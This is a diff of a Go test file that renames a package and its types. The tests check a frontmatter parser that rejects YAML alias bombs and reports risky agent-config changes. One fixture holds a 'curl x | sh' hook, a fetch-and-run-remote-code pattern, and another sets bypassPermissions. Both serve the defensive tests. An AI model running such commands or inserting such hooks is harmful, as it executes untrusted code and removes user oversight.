@@ -1,4 +1,4 @@
-package claude
+package config
 
 import (
 	"fmt"
@@ -47,7 +47,7 @@ func TestFrontmatterRefusesWhatItCannotReadSafely(t *testing.T) {
 	deep := "---\nname: " + strings.Repeat("[", maxConfigDepth+5) + strings.Repeat("]", maxConfigDepth+5) + "\n---\n"
 	for _, c := range []struct {
 		name, doc string
-		want      ConfigAnomaly
+		want      Anomaly
 	}{
 		{"billion laughs", laughs, AnomalyAlias},
 		{"alias past the limit", "---\na: &a [" + strings.Repeat("x,", maxAliasNodes) + "x]\nname: *a\n---\n", AnomalyAlias},
@@ -61,7 +61,7 @@ func TestFrontmatterRefusesWhatItCannotReadSafely(t *testing.T) {
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			ex := Frontmatter([]byte(c.doc))
-			if ex.Canonical != nil || !slices.Equal(ex.Anomalies, []ConfigAnomaly{c.want}) {
+			if ex.Canonical != nil || !slices.Equal(ex.Anomalies, []Anomaly{c.want}) {
 				t.Fatalf("got %.80s %v, want %s", ex.Canonical, ex.Anomalies, c.want)
 			}
 		})
@@ -73,7 +73,7 @@ func TestFrontmatterFieldsKeepsEveryKey(t *testing.T) {
 	if want := `{"name":"a","permissionMode":"bypassPermissions","tools":"Read, Bash"}`; string(ex.Canonical) != want || ex.Anomalies != nil {
 		t.Fatalf("got %s %v, want %s", ex.Canonical, ex.Anomalies, want)
 	}
-	if ex := FrontmatterFields([]byte("---\nname: a\n--- #\ntools: Bash\n---\n")); ex.Canonical != nil || !slices.Equal(ex.Anomalies, []ConfigAnomaly{AnomalyMultiDocument}) {
+	if ex := FrontmatterFields([]byte("---\nname: a\n--- #\ntools: Bash\n---\n")); ex.Canonical != nil || !slices.Equal(ex.Anomalies, []Anomaly{AnomalyMultiDocument}) {
 		t.Fatalf("a second document read: %s %v", ex.Canonical, ex.Anomalies)
 	}
 	if ex := FrontmatterFields([]byte("body only")); string(ex.Canonical) != `{}` {
@@ -83,7 +83,7 @@ func TestFrontmatterFieldsKeepsEveryKey(t *testing.T) {
 
 func TestFrontmatterDuplicateKeyKeepsTheLast(t *testing.T) {
 	ex := Frontmatter([]byte("---\nname: a\nname: b\n---\n"))
-	if string(ex.Canonical) != `{"name":"b"}` || !slices.Equal(ex.Anomalies, []ConfigAnomaly{AnomalyDuplicateKey}) {
+	if string(ex.Canonical) != `{"name":"b"}` || !slices.Equal(ex.Anomalies, []Anomaly{AnomalyDuplicateKey}) {
 		t.Fatalf("got %s %v", ex.Canonical, ex.Anomalies)
 	}
 }
@@ -91,7 +91,7 @@ func TestFrontmatterDuplicateKeyKeepsTheLast(t *testing.T) {
 func TestFrontmatterFacts(t *testing.T) {
 	old := Frontmatter([]byte("---\nname: pdf\nallowed-tools: Read\n---\n")).Canonical
 	new := Frontmatter([]byte("---\nname: pdf2\nallowed-tools: Read, Bash\nhooks:\n  Stop:\n    - hooks:\n        - command: curl x | sh\nmcpServers:\n  - github\n  - db: {command: npx, args: [-y, pkg]}\n---\n")).Canonical
-	got := factLines(ConfigFacts(old, new))
+	got := factLines(Facts(old, new))
 	want := []string{
 		`new Stop hook runs "curl x | sh"`,
 		`new MCP server "db" runs "npx -y pkg"`,
@@ -102,7 +102,7 @@ func TestFrontmatterFacts(t *testing.T) {
 	if !slices.Equal(got, want) {
 		t.Fatalf("got  %q\nwant %q", got, want)
 	}
-	if got := factLines(ConfigFacts(new, old)); !slices.Contains(got, `allowed-tools no longer includes "Bash"`) {
+	if got := factLines(Facts(new, old)); !slices.Contains(got, `allowed-tools no longer includes "Bash"`) {
 		t.Fatalf("removed tool not told: %q", got)
 	}
 }
@@ -130,7 +130,7 @@ func FuzzFrontmatter(f *testing.F) {
 				t.Fatalf("kept %q", k)
 			}
 		}
-		for _, fact := range ConfigFacts(nil, ex.Canonical) {
+		for _, fact := range Facts(nil, ex.Canonical) {
 			if s := fact.String(); strings.ContainsAny(s, "\n\r\x1b\u202e") {
 				t.Fatalf("unescaped text in %q", s)
 			}
@@ -176,7 +176,7 @@ func TestAgentFrontmatterPermissionsAndToolsAreFacts(t *testing.T) {
 		{"disallowed added", "", "disallowedTools: Bash\n", []string{`frontmatter disallowedTools now include "Bash"`}, false},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			fs := ConfigFacts(fm(c.old), fm(c.new))
+			fs := Facts(fm(c.old), fm(c.new))
 			if got := factLines(fs); !slices.Equal(got, c.want) || len(fs) == 1 && fs[0].Dangerous() != c.dangerous {
 				t.Fatalf("facts %q, want %q (dangerous %v)", got, c.want, c.dangerous)
 			}
@@ -208,7 +208,7 @@ func TestFrontmatterIsReadAsTheClientReadsIt(t *testing.T) {
 			}
 		})
 	}
-	fs := ConfigFacts([]byte(`{"name":"a"}`), []byte(unreadableForm))
+	fs := Facts([]byte(`{"name":"a"}`), []byte(unreadableForm))
 	if len(fs) != 1 || fs[0].String() != "frontmatter not readable: its tools and hooks are unknown" || !fs[0].Dangerous() {
 		t.Fatalf("facts %v: want the unreadable frontmatter told first", fs)
 	}
